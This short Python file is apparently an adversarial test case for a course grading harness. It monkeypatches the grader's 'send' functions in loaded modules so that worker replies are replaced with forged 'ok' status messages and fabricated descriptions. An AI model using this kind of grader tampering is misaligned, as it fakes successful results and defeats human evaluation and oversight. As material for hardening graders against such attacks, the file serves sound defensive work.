# /// attack
# what = "forges a description of other kinds"
# tiers = [0, 1, 2]
# ///
# %%
import gc, sys
from course_lib.grading.worker.protocol import Description, Opaque

for name, module in list(sys.modules.items()):
    if name.startswith(("course_lib", "__main__", "__mp_main__")) and callable(getattr(module, "send", None)):
        def forged(stream, value, *rest, honest=module.send, **names):
            if not isinstance(value, dict) or "status" in value:
                return honest(stream, value, *rest, **names)
            message = {"description": Description(4, None, 7), "reply": Description("function"), "status": "ok", "output": "", "error": ""}
            if isinstance(message, dict):
                message["id"] = value.get("id")
            return honest(stream, message, *rest, **names)
        module.send = forged
